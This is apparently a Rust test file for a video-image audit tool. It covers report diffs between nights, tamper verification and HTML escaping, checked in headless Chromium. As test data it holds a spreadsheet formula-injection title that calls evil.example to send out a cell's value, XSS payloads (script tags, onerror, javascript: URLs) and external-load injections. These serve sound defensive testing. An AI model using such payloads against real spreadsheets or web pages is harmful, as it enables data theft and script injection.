//! Issue 7's guarantees, with the real binary: the ledger, verify (and a
//! tampered report), changes between two nights, and the HTML page's
//! escaping — plus, where Chromium is installed, the page as a browser
//! renders it.

use std::collections::BTreeMap;
use std::path::Path;

use crate::common::{csv_rows, Audit, SimServer, TestCatalog, Workdir};
use serde_json::{json, Value};
use vod_image_audit::sim::{Catalog, SimConfig};

fn set(v: &mut Value, key: &str, value: Option<Value>) {
    let m = v.as_object_mut().unwrap();
    match value {
        Some(x) => m.insert(key.to_owned(), x),
        None => m.remove(key),
    };
}

/// Night one's catalog, and night two's with one image of each change kind.
fn two_nights() -> (Vec<Value>, Vec<Value>, BTreeMap<&'static str, String>) {
    let mut one = TestCatalog::generate(60, 17).values;
    // Make the first few images predictable.
    for v in one.iter_mut().take(8) {
        set(v, "AuditStatus", Some(json!("Normal")));
        set(v, "Status", Some(json!("Normal")));
        set(v, "CateId", Some(json!(1000001)));
        set(v, "CateName", Some(json!("News")));
    }
    set(&mut one[1], "AuditStatus", Some(json!("Blocked")));
    set(&mut one[6], "AuditStatus", None);
    let id = |i: usize| one[i]["ImageId"].as_str().unwrap().to_owned();
    let mut expected = BTreeMap::new();
    let mut two = one.clone();
    set(&mut two[0], "AuditStatus", Some(json!("Blocked")));
    expected.insert("newly_blocked", id(0));
    set(&mut two[1], "AuditStatus", Some(json!("Normal")));
    expected.insert("unblocked", id(1));
    expected.insert("newly_missing", id(2));
    set(&mut two[4], "Status", Some(json!("UploadFail")));
    expected.insert("status_changed", id(4));
    set(&mut two[5], "CateId", Some(json!(1000005)));
    set(&mut two[5], "CateName", Some(json!("Cooking")));
    expected.insert("category_changed", id(5));
    set(&mut two[6], "AuditStatus", Some(json!("Normal")));
    expected.insert("audit_status_appeared", id(6));
    // Image 3 is gone on night one and back on night two.
    expected.insert("reappeared", id(3));
    let three = one.remove(3);
    let _ = three;
    two.remove(2);
    (one, two, expected)
}

#[test]
fn changes_between_two_nights_each_kind_and_diff_agrees() {
    let (one, two, expected) = two_nights();
    let mut ids: Vec<String> = two_nights_ids(&one, &two);
    ids.sort();
    let wd = Workdir::new();
    wd.write("ids.csv", format!("ImageId\n{}\n", ids.join("\n")));

    let night1 = SimServer::start(SimConfig::new(Catalog::from_values(one).unwrap()));
    Audit::new(&wd, &night1).out("reports/night1").qps(500).run().expect_code(0);
    let night2 = SimServer::start(SimConfig::new(Catalog::from_values(two).unwrap()));
    let out = Audit::new(&wd, &night2).out("reports/night2").qps(500).args(["--compare-with", "auto"]).run();
    out.expect_code(0);

    let rows = csv_rows(&wd.read("reports/night2/changes.csv"));
    let got: BTreeMap<String, String> = rows.iter().map(|r| (r["change"].clone(), r["image_id"].clone())).collect();
    let want: BTreeMap<String, String> = expected.iter().map(|(k, v)| (k.to_string(), v.clone())).collect();
    assert_eq!(got, want, "one image per change kind\n{}", out.describe());
    assert_eq!(rows.len(), 7);
    let unblocked = rows.iter().find(|r| r["change"] == "unblocked").unwrap();
    assert_eq!((unblocked["before"].as_str(), unblocked["after"].as_str()), ("Blocked", "Normal"));

    let summary = wd.json("reports/night2/summary.json");
    let changes = &summary["changes"];
    assert!(changes["compared_with"].as_str().unwrap().ends_with("night1"), "{changes}");
    for kind in expected.keys() {
        assert_eq!(changes["counts"][kind], 1, "{kind}");
    }
    let manifest = wd.json("reports/night2/manifest.json");
    assert!(manifest["compared_with"].as_str().unwrap().ends_with("night1"));

    // The standalone diff gives the same file.
    let d = wd.run(&["diff", "reports/night1", "reports/night2"], &[], None);
    d.expect_code(0);
    assert_eq!(d.stdout, wd.read("reports/night2/changes.csv"));
    assert!(d.stderr.contains("newly_blocked 1"), "{}", d.describe());
    wd.run(&["diff", "reports/night1", "reports/night2", "--out", "c.csv"], &[], None).expect_code(0);
    assert_eq!(wd.read("c.csv"), d.stdout);
    // Nothing to compare with on the first night.
    let first = wd.json("reports/night1/summary.json");
    assert_eq!(first["changes"], Value::Null);
}

/// Night three of [`two_nights`]: one more image blocked, so that each night
/// differs.
fn three_nights() -> (Vec<Value>, Vec<Value>, Vec<Value>, String) {
    let (one, two, _) = two_nights();
    let mut three = two.clone();
    set(&mut three[7], "AuditStatus", Some(json!("Blocked")));
    set(&mut three[7], "Title", Some(json!("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\") 封面")));
    let id = three[7]["ImageId"].as_str().unwrap().to_owned();
    (one, two, three, id)
}

#[test]
fn changes_carry_context_the_page_draws_a_trend_and_formulas_are_defused() {
    let (one, two, three, blocked_id) = three_nights();
    let ids = two_nights_ids(&one, &two);
    let wd = Workdir::new();
    wd.write("ids.csv", format!("ImageId\n{}\n", ids.join("\n")));
    for (night, catalog) in [("night1", one), ("night2", two), ("night3", three)] {
        let sim = SimServer::start(SimConfig::new(Catalog::from_values(catalog).unwrap()));
        let out =
            Audit::new(&wd, &sim).out(&format!("reports/{night}")).qps(500).args(["--compare-with", "auto"]).run();
        out.expect_code(0);
    }

    // changes.csv: the new columns, with tonight's title, category and link.
    let text = wd.read("reports/night3/changes.csv");
    assert!(
        text.starts_with(
            "image_id,change,before,after,title,cate_id,cate_name,image_url,before_cate_id,before_cate_name,explained_by\n"
        ),
        "{text}"
    );
    let rows = csv_rows(&text);
    let row = rows.iter().find(|r| r["change"] == "newly_blocked").expect("a newly blocked image");
    assert_eq!(row["image_id"], blocked_id);
    assert!(row["title"].starts_with("'=HYPERLINK("), "a formula-like title is defused: {:?}", row["title"]);
    assert_eq!((row["cate_id"].as_str(), row["cate_name"].as_str()), ("1000001", "News"));
    assert_eq!((row["before_cate_id"].as_str(), row["before_cate_name"].as_str()), ("1000001", "News"));
    assert!(row["image_url"].starts_with("http"), "{row:?}");

    // images.csv defuses it; images.jsonl keeps it raw.
    let images = csv_rows(&wd.read("reports/night3/images.csv"));
    let img = images.iter().find(|r| r["image_id"] == blocked_id).unwrap();
    assert!(img["title"].starts_with("'=HYPERLINK("), "{:?}", img["title"]);
    let raw = wd.read("reports/night3/images.jsonl");
    let line: Value =
        raw.lines().map(|l| serde_json::from_str::<Value>(l).unwrap()).find(|v| v["image_id"] == blocked_id).unwrap();
    assert!(line["title"].as_str().unwrap().starts_with("=HYPERLINK("));

    // The page: a trend with a point per night in each series, the newly
    // blocked image with its title, and the AuditStatus share.
    let page = wd.read("reports/night3/summary.html");
    for series in ["found", "blocked", "missing"] {
        assert_eq!(page.matches(&format!("<circle class=\"{series}\"")).count(), 3, "{series} points");
    }
    let table = &page[page.find("class=\"newly-blocked\"").expect("the newly blocked table")..];
    assert!(
        table.contains("=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,&quot;click&quot;) 封面"),
        "title shown"
    );
    assert!(page.contains("data-k=\"audit_status_share\""));
    // The first night has no trend to draw.
    assert!(!wd.read("reports/night1/summary.html").contains("class=\"trend\""));

    // In a browser: it renders, no script runs, nothing is refused.
    let Some(browser) = chromium() else {
        let required = std::env::var_os(REQUIRE_BROWSER).is_some_and(|v| !v.is_empty());
        assert!(!required, "{REQUIRE_BROWSER} is set, but no browser is on PATH");
        return;
    };
    let mut args = chromium_args(&wd.path().join("chromium-profile"));
    args.extend([
        "--enable-logging=stderr".to_string(),
        "--v=0".to_string(),
        "--virtual-time-budget=2000".to_string(),
        "--dump-dom".to_string(),
        format!("file://{}", wd.path().join("reports/night3/summary.html").display()),
    ]);
    let out = std::process::Command::new(&browser).args(&args).output().unwrap();
    let dom = String::from_utf8_lossy(&out.stdout);
    let log = String::from_utf8_lossy(&out.stderr);
    assert!(dom.contains("class=\"trend\""), "the trend chart is in the rendered page");
    assert_eq!(dom.matches("<circle class=\"blocked\"").count(), 3);
    let console: Vec<&str> =
        log.lines().filter(|l| l.contains("CONSOLE") || l.contains("Content Security Policy")).collect();
    assert!(console.is_empty(), "console messages: {console:?}");
}

fn two_nights_ids(one: &[Value], two: &[Value]) -> Vec<String> {
    let mut ids: Vec<String> =
        one.iter().chain(two.iter()).map(|v| v["ImageId"].as_str().unwrap().to_owned()).collect();
    ids.sort();
    ids.dedup();
    ids
}

#[test]
fn ledger_and_verify_catch_a_tampered_report() {
    let cat = TestCatalog::generate(50, 23);
    let server = SimServer::start(cat.config());
    let wd = Workdir::new();
    let mut text = String::from("ImageId\n");
    for id in cat.ids() {
        text.push_str(&id);
        text.push('\n');
    }
    text.push_str("\nbad id\n");
    text.push_str(&cat.ids()[0]);
    text.push('\n');
    wd.write("ids.csv", &text);
    Audit::new(&wd, &server).out("r").qps(500).run().expect_code(0);

    let ledger = wd.json("r/summary.json")["ledger"].clone();
    assert_eq!(
        ledger,
        json!({"input_rows": 52, "blank_rows": 1, "rejected": 1, "duplicates": 1, "unique_ids": 50,
               "found": 50, "missing": 0, "failed": 0, "not_attempted": 0, "unaccounted": 0, "unaccounted_ids": []})
    );
    assert_eq!(wd.json("r/manifest.json")["ledger"], ledger);
    let files = wd.json("r/manifest.json")["files"].clone();
    let names: Vec<&str> = files.as_array().unwrap().iter().map(|f| f["name"].as_str().unwrap()).collect();
    for want in ["images.csv", "summary.csv", "rejected.csv", "images.jsonl", "summary.json", "summary.html"] {
        assert!(names.contains(&want), "{want} not in {names:?}");
    }

    let ok = wd.run(&["verify", "r"], &[], None);
    ok.expect_code(0);
    assert!(ok.stdout.contains("ledger balances"), "{}", ok.describe());

    // One byte changed in a report: verify names the file and fails.
    let path = wd.path().join("r/images.csv");
    let mut bytes = std::fs::read(&path).unwrap();
    let at = bytes.iter().position(|b| *b == b'f').unwrap();
    bytes[at] = b'F';
    std::fs::write(&path, bytes).unwrap();
    let bad = wd.run(&["verify", "r"], &[], None);
    bad.expect_code(6);
    assert!(bad.stdout.contains("FAILED: images.csv: changed since the run"), "{}", bad.describe());

    // A summary whose sums do not balance (with the manifest fixed up to match) fails too.
    let wd2 = Workdir::new();
    wd2.write("ids.csv", &text);
    Audit::new(&wd2, &server).out("r").qps(500).run().expect_code(0);
    let mut s = wd2.json("r/summary.json");
    s["ledger"]["found"] = json!(49);
    let new = serde_json::to_vec_pretty(&s).unwrap();
    std::fs::write(wd2.path().join("r/summary.json"), &new).unwrap();
    fix_manifest_digest(&wd2.path().join("r"), "summary.json");
    let bad = wd2.run(&["verify", "r"], &[], None);
    bad.expect_code(6);
    assert!(bad.stdout.contains("ledger: unique_ids 50 != found 49"), "{}", bad.describe());

    let none = wd.run(&["verify", "nowhere"], &[], None);
    none.expect_code(2);
}

fn fix_manifest_digest(dir: &Path, name: &str) {
    let (bytes, sha) = vod_image_audit::rundir::files::digest_file(&dir.join(name)).unwrap();
    let mpath = dir.join("manifest.json");
    let mut m: Value = serde_json::from_slice(&std::fs::read(&mpath).unwrap()).unwrap();
    for f in m["files"].as_array_mut().unwrap() {
        if f["name"] == name {
            f["bytes"] = json!(bytes);
            f["sha256"] = json!(sha);
        }
    }
    std::fs::write(&mpath, serde_json::to_vec_pretty(&m).unwrap()).unwrap();
}

/// A catalog whose blocked images have hostile titles.
fn hostile_catalog() -> Vec<Value> {
    let mut values = TestCatalog::generate(30, 29).values;
    set(&mut values[0], "Title", Some(json!("<script>document.title='pwned'</script>")));
    set(&mut values[0], "AuditStatus", Some(json!("Blocked")));
    set(&mut values[1], "Title", Some(json!("<img src=x onerror=\"document.title='pwned'\">")));
    set(&mut values[1], "AuditStatus", Some(json!("Blocked")));
    set(&mut values[1], "URL", Some(json!("javascript:document.title='pwned'")));
    set(&mut values[2], "CateName", Some(json!("</svg><script>document.title='pwned'</script>")));
    set(&mut values[2], "CateId", Some(json!(777)));
    values
}

#[test]
fn html_page_escapes_hostile_text() {
    let values = hostile_catalog();
    let ids: Vec<String> = values.iter().map(|v| v["ImageId"].as_str().unwrap().to_owned()).collect();
    let server = SimServer::start(SimConfig::new(Catalog::from_values(values).unwrap()));
    let wd = Workdir::new();
    wd.write("ids.csv", ids.join("\n"));
    Audit::new(&wd, &server).out("r").qps(500).run().expect_code(0);
    let html = wd.read("r/summary.html");
    assert!(!html.to_lowercase().contains("<script"), "a script tag got through");
    assert!(!html.contains("<img"), "an img tag got through");
    assert!(!html.contains("href=\"javascript"), "a javascript: link got through");
    assert!(html.contains("&lt;script&gt;document.title=&#39;pwned&#39;&lt;/script&gt;"));
    assert!(html.contains("Content-Security-Policy"));
    assert_eq!(loaded_from_outside(&html), Vec::<String>::new(), "the page loads nothing from outside itself");
    // The check finds what a page could pull in from outside.
    assert!(html.contains("</body>"));
    for injected in [
        r#"<link rel="stylesheet" href="http://evil.example/a.css">"#,
        r#"<style>@import "https://evil.example/a.css";</style>"#,
        "<div style=\"background: url(//evil.example/a.png)\"></div>",
        "<img src=https://evil.example/a.png>",
        "<a href='javascript:alert(1)'>x</a>",
    ] {
        let page = html.replace("</body>", &format!("{injected}</body>"));
        assert_ne!(loaded_from_outside(&page), Vec::<String>::new(), "not found: {injected}");
    }
}

/// The URLs in `html` that a browser would load from outside the page and
/// its run directory (`src=`, `href=`, `srcset=`, `action=`, `url(...)`,
/// `@import "..."`): those with a scheme other than `data:`, or starting
/// with `//`. An `<a href>` to an http(s) URL loads nothing until clicked
/// (the page links each image that way); any other scheme there counts.
fn loaded_from_outside(html: &str) -> Vec<String> {
    let lower = html.to_ascii_lowercase();
    let mut found = Vec::new();
    for key in ["src=", "href=", "srcset=", "action=", "url(", "@import"] {
        for (at, _) in lower.match_indices(key) {
            let rest = html[at + key.len()..].trim_start();
            let value = match rest.chars().next() {
                Some(quote @ ('"' | '\'')) => rest[1..].split(quote).next().unwrap_or_default(),
                _ => rest.split(|c: char| c.is_whitespace() || matches!(c, '>' | ')' | ';')).next().unwrap_or_default(),
            };
            let url = value.trim().to_ascii_lowercase();
            let scheme = url.split_once(':').map(|(s, _)| s).filter(|s| {
                !s.is_empty() && s.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.'))
            });
            let tag = lower[..at].rsplit('<').next().unwrap_or_default();
            let clicked = key == "href=" && (tag.starts_with("a ") || tag.starts_with("a\t") || tag.starts_with("a\n"));
            if clicked && matches!(scheme, Some("http" | "https")) {
                continue;
            }
            if url.starts_with("//") || scheme.is_some_and(|s| s != "data") {
                found.push(value.to_owned());
            }
        }
    }
    found
}

/// The variable `.ci/run` sets where Chromium is installed: the browser test
/// must then run, not skip.
const REQUIRE_BROWSER: &str = "VOD_IMAGE_AUDIT_REQUIRE_BROWSER";

/// Chromium's path, looked up in PATH (as the shell would, without relying
/// on `which` being installed).
fn chromium() -> Option<std::path::PathBuf> {
    use std::os::unix::fs::PermissionsExt;
    let path = std::env::var_os("PATH")?;
    ["chromium", "chromium-browser", "google-chrome"].iter().find_map(|name| {
        std::env::split_paths(&path)
            .map(|dir| dir.join(name))
            .find(|p| std::fs::metadata(p).is_ok_and(|m| m.is_file() && m.permissions().mode() & 0o111 != 0))
    })
}

fn chromium_args(user_dir: &Path) -> Vec<String> {
    [
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-quic",
        "--no-first-run",
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-sync",
        "--disable-dev-shm-usage",
    ]
    .iter()
    .map(|s| s.to_string())
    .chain([format!("--user-data-dir={}", user_dir.display())])
    .collect()
}

#[test]
fn html_page_in_a_real_browser_shows_the_summary_numbers_and_runs_no_script() {
    let Some(browser) = chromium() else {
        let required = std::env::var_os(REQUIRE_BROWSER).is_some_and(|v| !v.is_empty());
        assert!(
            !required,
            "{REQUIRE_BROWSER} is set, but no chromium, chromium-browser or google-chrome is on PATH ({})",
            std::env::var("PATH").unwrap_or_default()
        );
        // Straight to stderr: the test harness would swallow an eprintln!
        // of a test that passes, and a skip must be seen.
        use std::io::Write;
        let _ = writeln!(
            std::io::stderr(),
            "\n*** SKIPPED: the browser test needs Chromium (apt-get install chromium; .ci/run installs it \
             and sets {REQUIRE_BROWSER}) ***\n"
        );
        return;
    };
    let values = hostile_catalog();
    let ids: Vec<String> = values.iter().map(|v| v["ImageId"].as_str().unwrap().to_owned()).collect();
    let server = SimServer::start(SimConfig::new(Catalog::from_values(values).unwrap()));
    let wd = Workdir::new();
    wd.write("ids.csv", format!("{}\nnot/an/id\n0000aaaa\n", ids.join("\n")));
    Audit::new(&wd, &server).out("r").qps(500).run().expect_code(0);
    let page = wd.path().join("r/summary.html");
    let user_dir = wd.path().join("chromium-profile");

    let mut args = chromium_args(&user_dir);
    args.extend([
        "--virtual-time-budget=2000".to_string(),
        "--dump-dom".to_string(),
        format!("file://{}", page.display()),
    ]);
    let out = std::process::Command::new(&browser).args(&args).output().unwrap();
    let dom = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(dom.contains("</html>"), "chromium did not render the page: {}", String::from_utf8_lossy(&out.stderr));
    assert!(!dom.contains("pwned</title>"), "a script ran");
    assert!(dom.contains("<title>VOD image audit"), "the title was changed by a script");

    // The numbers the browser shows equal summary.json.
    let summary = wd.json("r/summary.json");
    let shown = data_values(&dom);
    let l = &summary["ledger"];
    for key in ["input_rows", "rejected", "duplicates", "unique_ids", "found", "missing", "failed", "unaccounted"] {
        assert_eq!(shown.get(key).map(String::as_str), Some(l[key].to_string().as_str()), "{key}");
    }
    for (k, v) in summary["by_audit_status"].as_object().unwrap() {
        assert_eq!(shown.get(&format!("audit:{k}")).map(String::as_str), Some(v.to_string().as_str()), "audit {k}");
    }
    for (k, v) in summary["by_status"].as_object().unwrap() {
        assert_eq!(shown.get(&format!("status:{k}")).map(String::as_str), Some(v.to_string().as_str()), "status {k}");
    }
    let blocked = summary["by_audit_status"]["Blocked"].to_string();
    assert_eq!(shown.get("blocked"), Some(&blocked));

    // And a screenshot, kept beside the test's scratch files for a person to look at.
    let shot = std::env::temp_dir().join("vod-image-audit-summary.png");
    let mut args = chromium_args(&wd.path().join("chromium-profile-2"));
    args.extend([
        "--window-size=1200,1600".to_string(),
        format!("--screenshot={}", shot.display()),
        format!("file://{}", page.display()),
    ]);
    let out = std::process::Command::new(&browser).args(&args).output().unwrap();
    let png = std::fs::read(&shot)
        .unwrap_or_else(|e| panic!("no screenshot ({e}): {}", String::from_utf8_lossy(&out.stderr)));
    assert!(png.starts_with(b"\x89PNG"), "the screenshot is a PNG");
    eprintln!("screenshot: {}", shot.display());
}

/// `data-k="key">value<` pairs of a DOM dump.
fn data_values(dom: &str) -> BTreeMap<String, String> {
    let mut out = BTreeMap::new();
    let mut rest = dom;
    while let Some(i) = rest.find("data-k=\"") {
        rest = &rest[i + 8..];
        let Some(end) = rest.find('"') else { break };
        let key = rest[..end].to_owned();
        let Some(gt) = rest.find('>') else { break };
        let Some(lt) = rest[gt..].find('<') else { break };
        out.insert(key, rest[gt + 1..gt + lt].trim().to_owned());
    }
    out
}
